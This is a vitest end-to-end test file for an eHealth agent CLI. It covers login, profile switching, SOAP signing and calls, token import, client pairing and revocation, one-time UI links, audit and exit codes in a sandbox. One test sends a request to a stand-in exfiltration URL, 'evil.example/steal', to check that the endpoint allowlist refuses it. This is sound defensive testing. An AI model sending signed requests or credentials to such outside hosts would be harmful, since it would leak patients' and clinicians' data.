import { mkdtempSync, rmSync, statSync, writeFileSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { AgentClient } from '../../clients/js/agent-client.js'
import { findPersonBySsin, profilesFor } from '../../agent/sandbox/directory.js'
import { issueSsoToken } from '../../agent/sandbox/idp/issue-sso-token.js'
import { makeEnvelope } from '../helpers/envelopes.js'
import { runCliCaptured } from '../helpers/run-cli-captured.js'
import { startTestAgent, type TestAgent } from '../helpers/start-test-agent.js'

let t: TestAgent
let scratch: string
const cli = (...argv: string[]) => runCliCaptured([...argv, '--state-dir', t.stateDir, '--port', String(t.port)], { home: scratch })

beforeAll(async () => {
  t = await startTestAgent()
  scratch = mkdtempSync(join(tmpdir(), 'cli-e2e-'))
}, 120_000)
afterAll(async () => {
  await t?.agent.close()
  rmSync(scratch, { recursive: true, force: true })
})

describe('ehagent commands against a real agent and the sandbox', () => {
  it('status --json is the agent.status result', async () => {
    const run = await cli('status', '--json')
    expect(run.code).toBe(0)
    expect(JSON.parse(run.stdout)).toMatchObject({ environment: 'sandbox', session: { state: 'signed-out' } })
  })

  it('login shows progress on stderr while the agent asks the user, the result on stdout', async () => {
    const run = await cli('login', '--profile', 'doctor')
    expect(run.code).toBe(0)
    expect(run.stderr).toMatch(/^signing in: answer the PIN or password prompt of the agent/)
    expect(run.stderr).toMatch(/done \(\d+\.\d s\)/)
    // The token lasts 24 h: its end is tomorrow, said with the day and the distance.
    expect(run.stdout).toMatch(/^signed in as .+ \(.+\) until tomorrow \d\d:\d\d \(in 24 h\)\n$/)
    expect(t.prompter.prompts.length).toBe(1)
  })

  it('switch-profile signs out and in again with the new profile (one more prompt)', async () => {
    const run = await cli('switch-profile', 'citizen', '--json')
    expect(run.code).toBe(0)
    expect(JSON.parse(run.stdout)).toMatchObject({ state: 'signed-in', token: { profile: { id: 'citizen' } } })
    expect(run.stderr).toMatch(/switching to citizen/)
    expect(t.prompter.prompts.length).toBe(2)
    expect((await cli('switch-profile', 'doctor')).code).toBe(0)
  })

  it('sign FILE prints the envelope with a WS-Security header, the Body as in the file', async () => {
    const file = join(scratch, 'request.xml')
    const envelope = makeEnvelope(500)
    writeFileSync(file, envelope)
    const run = await cli('sign', file)
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/<wsse:Security [^>]*>[\s\S]*<ds:SignatureValue>[A-Za-z0-9+/=]{300,}<\/ds:SignatureValue>/)
    const body = (xml: string) => xml.slice(xml.indexOf('>', xml.indexOf('<soapenv:Body')) + 1, xml.indexOf('</soapenv:Body>'))
    expect(body(run.stdout)).toBe(body(envelope))
    // xmlsec1 checks what `sign` prints in cli-commands.e2e.system.test.ts.
  })

  it('call ENDPOINT FILE signs, posts to the sandbox service and prints its answer', async () => {
    const file = join(scratch, 'call.xml')
    writeFileSync(file, makeEnvelope(300))
    const run = await cli('call', t.agent.services.environment.services.hokEcho!, file, '--soap-action', 'urn:be:fgov:ehealth:test:consult')
    expect(run.code).toBe(0)
    expect(run.stdout).toContain('<echo:Accepted>true</echo:Accepted>')
    expect(run.stderr).toMatch(/calling http:\/\/127\.0\.0\.1:\d+\/sandbox\/EchoService\/HolderOfKey\/v1…/)
    const refused = await cli('call', 'https://evil.example/steal', file, '--json')
    expect(JSON.parse(refused.stdout).error.code).toBe('ERR_ENDPOINT_NOT_ALLOWED')
    expect(refused.code).toBe(1)
  })

  it('import-token FILE uses a token downloaded from the sandbox IDP', async () => {
    const ks = t.sandbox.state.pki.keystores.doctor
    const choice = profilesFor(ks.ssin!).find((c) => c.profile === 'doctor')!
    const issued = issueSsoToken(t.sandbox.state, findPersonBySsin(ks.ssin!)!, choice)
    if (issued.kind !== 'issued') throw new Error(`the sandbox IDP did not issue a token: ${issued.kind}`)
    const file = join(scratch, issued.result.fileName)
    writeFileSync(file, issued.result.fileText)
    const run = await cli('import-token', file, '--json')
    expect(run.stderr).toMatch(/importing the session token/)
    expect(run.code).toBe(0)
    expect(JSON.parse(run.stdout)).toMatchObject({ state: 'signed-in', token: { origin: 'imported', assertionId: issued.result.assertionId } })
    const bad = join(scratch, 'not-a-token.ehtoken')
    writeFileSync(bad, '<x/>')
    const refused = await cli('import-token', bad)
    expect(refused.code).toBe(7) // invalid input
    expect(refused.stderr).toMatch(/ERR_SAML_INVALID/)
  })

  it('pair --name --out writes the credential once (0600); clients lists it; clients revoke makes its next call fail', async () => {
    const out = join(scratch, 'medisoft.credential')
    const run = await cli('pair', '--name', 'MediSoft 4.2', '--methods', 'session.status,soap.sign', '--out', out, '--json')
    expect(run.code).toBe(0)
    const paired = JSON.parse(run.stdout) as { clientId: string; credentialFile: string; url: string; credential?: string }
    expect(paired.credential).toBeUndefined()
    expect(statSync(out).mode & 0o777).toBe(0o600)
    expect(t.prompter.pairings.at(-1)).toMatchObject({ client: 'MediSoft 4.2', scopes: { methods: ['session.status', 'soap.sign'] } })
    const app = new AgentClient({ url: paired.url, credential: readFileSync(out, 'utf8').trim() })
    await expect(app.call('session.status')).resolves.toMatchObject({ state: 'signed-in' })
    await expect(app.call('audit.list', {})).rejects.toMatchObject({ code: 'ERR_SCOPE' })
    expect((await cli('pair', '--name', 'again', '--out', out)).code).toBe(2)

    const list = await cli('clients', '--json')
    expect(JSON.parse(list.stdout)).toEqual(expect.arrayContaining([expect.objectContaining({ clientId: paired.clientId, name: 'MediSoft 4.2' })]))
    expect((await cli('clients')).stdout).toContain(`${paired.clientId}  MediSoft 4.2`)
    const revoked = await cli('clients', 'revoke', paired.clientId)
    expect(revoked.code).toBe(0)
    await expect(app.call('session.status')).rejects.toMatchObject({ code: 'ERR_UNAUTHORIZED' })
    expect((await cli('clients', 'revoke', 'no-such-client')).code).toBe(7)
  })

  it('pair without --out prints the credential once, on stdout only', async () => {
    const run = await cli('pair', '--name', 'script')
    expect(run.code).toBe(0)
    const credential = /credential {2}(\S+)/.exec(run.stdout)![1]!
    expect(credential).toMatch(/^[A-Za-z0-9_-]{40,}$/)
    expect(run.stderr).not.toContain(credential)
  })

  it('ui PAGE prints a fresh one-time link to the page and opens it where there is a display; only the local credential gets one', async () => {
    const opened: string[] = []
    const run = await runCliCaptured(['ui', 'settings', '--state-dir', t.stateDir, '--port', String(t.port)], {
      home: scratch,
      machine: { display: { DISPLAY: ':99' } },
      openUrl: async (url) => void opened.push(url),
      now: () => new Date(Date.now() - 60_000),
    })
    expect(run.code).toBe(0)
    const link = run.stdout.trim()
    expect(link).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${t.port}/ui/open\\?t=[A-Za-z0-9_-]{43}$`))
    expect(opened).toEqual([link])
    expect(run.stderr).toMatch(/^opened the settings page in the browser; it works once, until \d\d:\d\d \(in 3 min\)\n$/)
    // The link opens the settings page once.
    const first = await fetch(link, { redirect: 'manual' })
    expect(first.status).toBe(303)
    expect(first.headers.get('location')).toBe('/ui/admin/settings')
    expect((await fetch(link, { redirect: 'manual' })).status).toBe(403)
    // No display (SSH, a service): printed only, and said why.
    const headless = await cli('ui', '--json')
    expect(headless.code).toBe(0)
    expect(JSON.parse(headless.stdout)).toMatchObject({ page: 'status', opened: false, url: expect.stringMatching(/\/ui\/open\?t=/) })
    expect(headless.stderr).toMatch(/^open this link in a browser on this computer \(no display here\)/)
    expect((await cli('ui', 'nowhere')).code).toBe(2)
    // A paired application may not mint links to the admin pages, whatever it asked for.
    const paired = JSON.parse((await cli('pair', '--name', 'Greedy', '--methods', 'ui.link,session.status', '--json')).stdout) as { credential: string; url: string; scopes: { methods: string[] } }
    expect(paired.scopes.methods).not.toContain('ui.link')
    await expect(new AgentClient({ url: paired.url, credential: paired.credential }).call('ui.link', {})).rejects.toMatchObject({ code: 'ERR_SCOPE' })
  })

  it('audit shows what the commands did; logout ends the session', async () => {
    const audit = await cli('audit', '--limit', '50', '--json')
    const events = (JSON.parse(audit.stdout) as { event: string }[]).map((r) => r.event)
    expect(events).toEqual(expect.arrayContaining(['login', 'soap.sign', 'soap.call', 'client.pair', 'client.revoke']))
    expect((await cli('logout')).stdout).toBe('signed out\n')
  })

  it('usage mistakes exit 2 (with a JSON error under --json); no agent exits 4', async () => {
    const usage = await cli('switch-profile', '--json')
    expect(usage.code).toBe(2)
    expect(JSON.parse(usage.stdout)).toEqual({ error: { code: 'ERR_USAGE', message: expect.stringMatching(/needs the profile/) } })
    expect((await cli('call', 'not a url', 'x.xml')).code).toBe(2)
    expect((await cli('sign', join(scratch, 'missing.xml'))).code).toBe(2)
    expect((await cli('clients', 'frobnicate')).code).toBe(2)
    expect((await runCliCaptured(['nonsense'], { home: scratch })).code).toBe(2)
    const down = await runCliCaptured(['status', '--json', '--state-dir', join(scratch, 'nothing-here')], { home: scratch })
    expect(down.code).toBe(4)
    expect(down.stderr).toMatch(/not running/)
    expect(JSON.parse(down.stdout)).toMatchObject({ error: { code: 'ERR_AGENT_UNREACHABLE' } })
  })

  it('help lists every command of the issue; version has --json too', async () => {
    expect(JSON.parse((await runCliCaptured(['version', '--json'], { home: scratch })).stdout)).toEqual({ version: 'test' })
    // The usual spelling, with no command word (what a package's smoke test runs).
    expect(await runCliCaptured(['--version'], { home: scratch })).toMatchObject({ code: 0, stdout: 'test\n' })
    const help = await runCliCaptured(['help'], { home: scratch })
    for (const command of ['start', 'status', 'login', 'logout', 'switch-profile', 'import-token', 'sign', 'call', 'pair', 'clients', 'audit', 'ui', 'sandbox', 'install', 'uninstall', 'doctor']) {
      expect(help.stdout).toMatch(new RegExp(`^  ${command}\\b`, 'm'))
    }
  })
})
